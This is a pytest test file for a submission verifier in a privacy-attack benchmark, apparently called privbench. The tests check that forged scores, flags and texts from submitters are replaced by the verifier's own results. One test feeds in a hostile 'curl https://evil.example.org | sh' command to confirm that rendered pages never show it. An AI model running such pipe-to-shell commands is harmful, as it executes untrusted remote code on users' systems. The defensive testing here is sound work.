"""What a submitter states does not decide what is published: scores, flags, levels and texts are the verifier's."""

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import torch
from helpers.samples import make_record, make_score
from privbench.benchmark.analysis.record_set import Records, load_records
from privbench.benchmark.core.evidence import ClassReconstructions, Predictions
from privbench.benchmark.errors import CorruptArtifactError
from privbench.benchmark.pipeline.session import Session
from privbench.benchmark.records.record import Record, location
from privbench.benchmark.records.submission import read_submission
from privbench.benchmark.records.verification import CheckedRecord, Published, Verification, write_verification
from privbench.benchmark.report.html.pages import render_folder
from privbench.benchmark.store.store import Store
from privbench.benchmark.submissions import published, recompute, rerun, verify
from privbench.benchmark.submissions.check_components import _are_fields
from privbench.benchmark.submissions.recompute import compare_score
from privbench.benchmark.submissions.rerun import RerunConfig
from privbench.benchmark.submissions.shared_judges import remembered
from privbench.benchmark.submissions.unique_evidence import Sketches, is_near, verified_outputs
from privbench.benchmark.submissions.verify import SubmissionResult, make_verification, verify_submission

Check = Callable[[Path], SubmissionResult]
TEXT = "verified by everyone"


def judged_scores_at_zero(record: dict[str, Any]) -> None:
    """Digests of zeros, judged scores of 0 in [0, 1], no flags, texts of the author everywhere."""
    for role in ("judge", "second_judge"):
        record["artifacts"][role]["digest"] = "0" * 64
    for name, score in record["scores"].items():
        if score["evaluator"] in ("attack_acc", "verified_acc", "fid") and score["value"] is not None:
            score |= {"value": 0.0, "interval": [0.0, 1.0] if score["interval"] else None}
            score["notes"] = [TEXT]
        score["definition"]["formula"] += "" if name else TEXT
    record["flags"] = [{"name": "certified", "message": TEXT}]
    record["environment"] |= {"cpu": TEXT, "device": TEXT}
    record["queries"] = {TEXT: 3}
    record["costs"] = {TEXT: {"seconds": 1.0}}
    record["target"] = {TEXT: TEXT}
    record["curves"] = {TEXT: {TEXT: {TEXT: [[0, 1.0]]}}}
    record["artifacts"][TEXT] = {"key": "0" * 64, "digest": "0" * 64}
    record["not_run"] = {name: why | {"reason": TEXT} for name, why in record["not_run"].items()} | {
        TEXT: {"code": "unavailable", "reason": TEXT}
    }
    record["judge"] |= {"test_accuracy": 1.0, "note": TEXT}
    record["created"] = "9999-12-31T00:00:00+00:00"


def test_everything_that_is_published_is_the_verifiers(check: Check, honest: Path, forged, tmp_path: Path) -> None:
    forged.change_record(judged_scores_at_zero)
    forged.change_index(lambda index: index["records"][0]["probe"].update(gradient_failed=TEXT, zero_gradients=9e9))
    (true,) = check(honest).records.values()
    found = check(forged.folder)
    (checked,) = found.records.values()
    assert checked.level == "recomputed"
    assert checked.published is not None and true.published is not None
    for part in ("scores", "judge", "environment", "changed", "command", "not_run"):
        assert getattr(checked.published, part) == getattr(true.published, part), part
    assert checked.published.artifacts["judge"].digest == true.published.artifacts["judge"].digest != "0" * 64
    assert {"weak_judge", "zero_input_gradient"} <= {flag.name for flag in checked.published.flags}
    write_verification(make_verification(found, "A verifier"), tmp_path, "forged")
    records = load_records(tmp_path)
    (record,) = records
    assert record.scores == true.published.scores
    assert TEXT not in record.text()
    assert record.created < "9999"
    assert (record.queries, record.costs, record.target, record.curves) == ({}, {}, {}, {})
    assert not any(TEXT.encode() in content for _, content in render_folder(records))


def test_the_page_shows_no_command_of_the_author() -> None:
    record = make_record(command=["curl", "https://evil.example.org", "|", "sh"])
    pages = [content for _, content in render_folder(Records((record,), (Path(),)))]
    assert any(b"privbench run --dataset digits --defense none" in content for content in pages)
    assert not any(b"evil.example.org" in content for content in pages)


def test_a_judge_that_cannot_be_had_lowers_the_level(honest: Path, verifier: Path, monkeypatch) -> None:
    from privbench.benchmark.errors import MissingDataError

    def missing(*_: object) -> None:
        raise MissingDataError("expected weights, found none; get them")

    monkeypatch.setattr(recompute, "_judge_artifact", missing)
    session = Session(Store(verifier), verifier, torch.device("cpu"))
    (record,) = verify_submission(honest, session).records.values()
    assert record.level == "self-reported"
    assert record.published is None
    assert "attack_acc was not recomputed: its judges are not available here: expected weights" in record.notes[0]
    assert "accuracy" in record.scores
    assert "attack_acc" not in record.scores


def claim(**score: object) -> Record:
    return make_record(scores={"attack_acc": make_score("attack_acc", **score)})  # type: ignore[arg-type]


def computed(value: float | None = 0.5, **parts: object) -> dict[str, Any]:
    facts: dict[str, Any] = {"n": 500, "interval": [0.4, 0.6], "intervals": {}, "spreads": {}, "chance": None}
    return facts | {"per_class": None, "value": value} | parts


@pytest.mark.parametrize(
    ("score", "found", "outcome"),
    [
        ({"value": 0.5, "interval": [0.4, 0.6]}, {}, "equal"),
        ({"value": 0.59, "interval": [0.58, 0.6]}, {}, "within"),
        ({"value": 0.41}, {}, "within"),
        ({"value": 0.5, "interval": [0.4, 0.6], "intervals": {"draws": [0, 1]}}, {}, "within"),
        ({"value": 0.9, "interval": [0, 1]}, {}, "in the interval 0.4 to 0.6 of the recomputed 0.5, got 0.9"),
        ({"value": 0.1, "interval": [0, 1]}, {}, "got 0.1"),
        ({"value": 0.5, "n": 499}, {}, "expected n of attack_acc"),
        ({"value": 0.5, "chance": 0.2}, {}, "expected chance of attack_acc"),
        ({"value": None, "reason": "failed"}, {}, "expected attack_acc of"),
        ({"value": 0.5}, {"interval": None}, "equal"),
        ({"value": 0.5, "per_class": [0.5]}, {"interval": None}, "within"),
        ({"value": 0.7, "interval": [0, 1]}, {"interval": None}, "not compared"),
    ],
)
def test_only_the_verifiers_interval_is_a_tolerance(score: dict, found: dict, outcome: str) -> None:
    try:
        given = compare_score(claim(**score), "attack_acc", computed(**found), exact=False).outcome
    except CorruptArtifactError as problem:
        given = str(problem)
    assert outcome == given or outcome in given.partition("; ")[0]


def test_a_score_without_judges_is_exact_in_every_part() -> None:
    honest = {"value": 0.5, "interval": [0.4, 0.6]}
    assert compare_score(claim(**honest), "attack_acc", computed(), exact=True).outcome == "equal"
    for part in ({"value": 0.501}, {"intervals": {"draws": [0, 1]}}, {"spreads": {"draws": 0.1}}, {"per_class": [1]}):
        with pytest.raises(CorruptArtifactError, match=f"{next(iter(part))} of |attack_acc of"):
            compare_score(claim(**honest | part), "attack_acc", computed(), exact=True)


def test_a_new_run_may_differ_by_the_square_root_of_two_more() -> None:
    found = computed()
    assert compare_score(claim(value=0.63), "attack_acc", found, exact=False, widen=2**0.5).outcome == "within"
    for value, widen in ((0.65, 2**0.5), (0.63, 1.0)):
        with pytest.raises(CorruptArtifactError, match="in the interval"):
            compare_score(claim(value=value), "attack_acc", found, exact=False, widen=widen)


def test_a_leakage_score_that_cannot_be_compared_lowers_the_level_and_one_of_quality_does_not() -> None:
    record = make_record()
    outcome = {"claimed": 1.0, "found": 2.0, "outcome": "not compared", "reason": "it has no interval"}
    scores = {name: verify.CheckedScore.model_validate(outcome) for name in ("attack_acc", "fid_judge")}
    assert list(verify._uncompared(record, scores)) == ["attack_acc: it has no interval"]


def test_a_repetition_with_a_note_has_no_level() -> None:
    numbers = Published.of(make_record())
    assert verify._at_level("re-run", {}, (), numbers).level == "re-run"
    assert verify._at_level("re-run", {}, ("attack_acc: it has no interval",), numbers).level == "self-reported"
    assert verify._at_level("recomputed", {}, (), None).level == "self-reported"


def test_a_level_needs_the_numbers_of_the_verifier() -> None:
    with pytest.raises(ValueError, match="numbers of the verifier above the lowest level"):
        CheckedRecord(level="recomputed")
    old = {"format": "privbench verification", "schema_version": 1, "submission": "0" * 64, "by": "a", "created": "b"}
    old |= {"privbench": "0", "python": "3", "torch": "2", "platform": "L", "records": {"1" * 64: {"level": "re-run"}}}
    found = Verification.parse(json.dumps(old).encode(), "x").records["1" * 64]
    assert found.level == "self-reported"
    assert "verify it again" in found.notes[0]


# Fields, seeds and evidence.


def test_fields_of_an_unknown_component_are_at_least_those_of_the_cell() -> None:
    fields = {"a": 1, "b": {"c": [2]}}
    assert _are_fields({"a": 1, "b.c": [2]}, fields) and _are_fields({}, fields)
    assert not _are_fields({"a": 2}, fields) and not _are_fields({"d": 1}, fields)


def of_an_unknown_defense(record: dict[str, Any]) -> None:
    record["cell"]["defense"] |= {"name": "ours", "distribution": "elsewhere"}
    record["command"] = ["ours" if word == "none" else word for word in record["command"]]


def test_one_evidence_does_not_count_for_two_seeds(check: Check, forged) -> None:
    """Of a defense that nobody can install, so that no key shows which seed made the evidence."""
    forged.change_record(of_an_unknown_defense)
    (entry,) = forged.index["records"]
    record = json.loads((forged.folder / entry["record"]).read_text("utf-8"))
    record["cell"]["seed"], record["key"], record["picture"] = 1, "1" * 64, None
    place = record["command"].index("--seed") + 1
    record["command"][place] = "1"
    second = Record.model_validate(record)
    path = location(second, Path()).as_posix()
    forged.replace(path, second.text().encode())
    forged.change_index(lambda index: index["records"].append(entry | {"record": path}))
    forged.change_index(lambda index: index.update(seeds=[0, 1]))
    found = check(forged.folder)
    assert found.records == {}
    copy = "to have ClassReconstructions of its own, got nearly those of"
    assert any(copy in problem for problem in found.problems), found.problems


def test_changed_is_compared_with_each_installed_component(check: Check, forged) -> None:
    """A defense that nobody can install does not hide that the attack was weakened."""

    def edit(record: dict[str, Any]) -> None:
        of_an_unknown_defense(record)
        record["changed"] = {}
        record["command"] = record["command"][: record["command"].index("--set")]

    forged.change_record(edit)
    (problem,) = check(forged.folder).problems
    assert "to list the fields of attack that differ from the defaults of the budget smoke, got other fields" in problem


def sketch(record: Record, values: torch.Tensor, kind: str = "ClassReconstructions") -> tuple[Record, dict[str, Any]]:
    labels = torch.zeros(1)
    item = ClassReconstructions(values, labels) if kind == "ClassReconstructions" else Predictions(values, labels)
    return record, {kind: item}


def copies(*found: tuple[Record, dict[str, Any]]) -> list[tuple[str, str]]:
    sketches = Sketches()
    for record, items in found:
        sketches.add(record, items)
    return [(record.key, kind) for record, _, kind in sketches.copies()]


def test_evidence_is_of_one_seed_and_defense() -> None:
    pixels = torch.randint(0, 256, (1, 2, 3, 1, 40, 40), generator=torch.Generator().manual_seed(0)).to(torch.uint8)
    noisy = (pixels.int() + torch.randint(-1, 2, pixels.shape)).clamp(0, 255).to(torch.uint8)
    zero, one, other = make_record(seed=0), make_record(seed=1), make_record("mid", seed=0)
    assert copies(sketch(zero, pixels), sketch(one, pixels)) == [(one.key, "ClassReconstructions")]
    assert copies(sketch(zero, pixels), sketch(one, noisy)) == [(one.key, "ClassReconstructions")]
    assert copies(sketch(zero, pixels), sketch(other, pixels)) == [(other.key, "ClassReconstructions")]
    assert copies(sketch(zero, pixels), sketch(one, pixels.flip(-1))) == []
    full = make_record(budget="full")
    assert copies(sketch(zero, pixels), sketch(full, pixels)) == [], "the same fields under two budgets"
    second = make_record(attack="gmi")
    assert copies(sketch(zero, pixels), sketch(second, pixels)) == [(second.key, "ClassReconstructions")]
    logits = [sketch(record, pixels.float(), "Predictions") for record in (zero, second, one)]
    assert copies(*logits[:2]) == [], "one target under two attacks"
    assert [key for key, _ in copies(*logits)] == [one.key, one.key]


def test_near_means_a_fiftieth_of_the_spread() -> None:
    values = torch.linspace(-1, 1, 101).double()
    spread = float(values.std(correction=0))
    assert is_near(values, values + 0.019 * spread)
    assert not is_near(values, values + 0.021 * spread)
    assert is_near(torch.zeros(5), torch.zeros(5))
    assert not is_near(torch.zeros(5), torch.ones(5))


def test_evidence_of_another_verified_submission_is_refused(check: Check, honest: Path, tmp_path: Path) -> None:
    """A record with another key and the reconstructions of a submission that was verified before."""
    first = Path(shutil.copytree(honest, tmp_path / "submissions" / "first"))
    assert verified_outputs(tmp_path / "submissions" / "copy") == {}
    write_verification(make_verification(check(first), "A verifier"), tmp_path, "first")
    (key,) = (record.key for record in read_submission(first).records)
    known = verified_outputs(tmp_path / "submissions" / "copy")
    assert set(known.values()) == {("first", key)}
    submission = read_submission(honest)
    (entry,) = submission.index.records
    verify._require_own_evidence(submission, entry, submission.records[0], known)
    stranger = submission.records[0].model_copy(update={"key": "1" * 64})
    with pytest.raises(CorruptArtifactError, match=f"those of the record {key[:12]} in first"):
        verify._require_own_evidence(submission, entry, stranger, known)


def test_a_repetition_publishes_the_numbers_of_the_new_run(honest: Path, verifier: Path, monkeypatch) -> None:
    """Everything is of the repetition, however the claim looks."""
    (record,) = read_submission(honest).records
    scores = {name: score.model_copy(update={"notes": ("again",)}) for name, score in record.scores.items()}
    created = "2026-01-01T00:00:00+00:00"
    again = record.model_copy(update={"scores": scores, "queries": {"forward": 7}, "created": created})
    outcome = SimpleNamespace(failures={})
    monkeypatch.setattr(rerun.api, "execute", lambda *_, **__: (None, outcome, ((again, Path()),)))
    session = Session(Store(verifier), verifier, torch.device("cpu"))
    (found,) = verify_submission(honest, session, RerunConfig(verifier, verifier)).records.values()
    assert found.level == "re-run"
    assert found.published is not None
    assert found.published.queries == {"forward": 7}
    assert {note for score in found.published.scores.values() for note in score.notes} == {"again"}
    assert found.since == created


def test_progress_is_reported_before_each_record(honest: Path, verifier: Path) -> None:
    seen: list[tuple[int, int, str]] = []
    session = Session(Store(verifier), verifier, torch.device("cpu"))
    verify_submission(honest, session, begin=lambda i, n, record: seen.append((i, n, record.cell.attack.name)))
    assert seen == [(1, 1, "kedmi")]


def test_features_of_equal_images_are_computed_once() -> None:
    calls: list[torch.Tensor] = []

    def double(name: str, values: torch.Tensor, transform: object = None) -> torch.Tensor:
        calls.append(values)
        return 2 * values

    function, values = remembered(double), torch.arange(6)
    function("a", values).zero_()
    assert torch.equal(function("a", values.clone()), 2 * values)
    assert len(calls) == 1
    for other in (("b", values), ("a", values + 1), ("a", values.view(2, 3)), ("a", values.float())):
        assert torch.equal(function(*other), 2 * other[1])
    assert len(calls) == 5
    function("a", values, print)
    assert len(calls) == 6, "a function is not remembered"


def test_curves_of_odd_names_raise_no_flag() -> None:
    record = make_record(curves={"evidence": {"attack 0": {"identity": [[0, 1.0]]}, "attack <b>": {"identity": []}}})
    assert published._numeric_curves(record) == {"evidence": {"attack 0": {"identity": ((0, 1.0),)}}}
